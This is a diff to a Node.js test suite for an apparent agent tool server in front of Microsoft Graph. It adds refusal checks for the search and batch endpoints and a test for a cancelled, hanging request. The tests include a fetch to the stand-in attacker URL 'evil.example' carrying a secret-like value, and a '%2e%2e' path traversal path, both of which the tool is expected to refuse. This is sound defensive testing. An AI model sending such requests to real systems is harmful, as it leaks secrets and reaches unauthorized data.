@@ -12,7 +12,7 @@ import {
 } from 'node:fs';
 import { join } from 'node:path';
 import { after, before, beforeEach, describe, test } from 'node:test';
-import { run, startTools } from './support.mjs';
+import { line, run, startTools, toolCall } from './support.mjs';
 import { ALL_ROLES, startTenant } from './tenant/index.mjs';
 
 const ADA = '/users/ada@contoso.com';
@@ -57,9 +57,9 @@ describe('a line', () => {
     });
     await tools.fetch(`${ADA}/messages?$search="budget"&$top=1`);
     await tools.close();
-    const [start, line] = read();
+    const [start, entry] = read();
     assert.deepEqual([start.event, start.app, start.tenant], ['start', tenant.clientId, tenant.tenantId]);
-    const { time, pid, requestId, clientRequestId, bytes, ms, ...rest } = line;
+    const { time, pid, requestId, clientRequestId, bytes, ms, ...rest } = entry;
     assert.deepEqual(rest, {
       event: 'request',
       run: 'github:contoso/agents/runs/7/attempts/2',
@@ -92,6 +92,8 @@ describe('a line', () => {
       .call('create_entity', { parentUrl: `${ADA}/messages`, jsonBody: { subject: 'x' } })
       .catch(() => {});
     await tools.call('do_action', { actionUrl: `${ADA}/sendMail`, jsonBody: {} });
+    await tools.call('do_action', { actionUrl: '/search/query', headers: { Authorization: 'hush' } });
+    await tools.call('do_action', { actionUrl: '/$batch', jsonBody: { requests: [] } });
     await tools.fetch('https://evil.example/?hush', '/users/%2e%2e/x', '/chats');
     tenant.setRoles(['Mail.Read']);
     tenant.revoke();
@@ -103,6 +105,8 @@ describe('a line', () => {
     assert.deepEqual(refused, [
       ['writes', '/users/{id}/messages', undefined, 'create_entity'],
       ['writes', '/users/{id}/sendMail', undefined, 'do_action'],
+      ['path', '/search/query', undefined, 'do_action'],
+      ['path', '/$batch', undefined, 'do_action'],
       ['path', '{path}', undefined, 'fetch'],
       ['path', '/users/{id}/{name}', undefined, 'fetch'],
       ['delegated', '/chats', undefined, 'fetch'],
@@ -117,6 +121,18 @@ describe('a line', () => {
     const [unsigned, again] = asked();
     assert.deepEqual([unsigned.refusedBy, unsigned.attempts], ['signIn', undefined]);
     assert.deepEqual([again.status, again.attempts], [200, 2]);
+  });
+
+  test('is there where nobody waits for the answer any longer', async () => {
+    const tools = startTools(env);
+    tenant.fail({ at: 'graph', hang: true });
+    tools.write(toolCall('doomed', 'fetch', { entityUrls: [ADA] }));
+    while (tenant.graphRequests.length === 0) await new Promise(setImmediate);
+    tools.write(line({ method: 'notifications/cancelled', params: { requestId: 'doomed' } }));
+    await tenant.graphRequests[0].closed;
+    await tools.close();
+    const [doomed] = asked();
+    assert.deepEqual([doomed.template, doomed.status, doomed.error], ['/users/{id}', undefined, 'no_answer']);
   });
 
   test('is there for content that Graph has elsewhere', async () => {
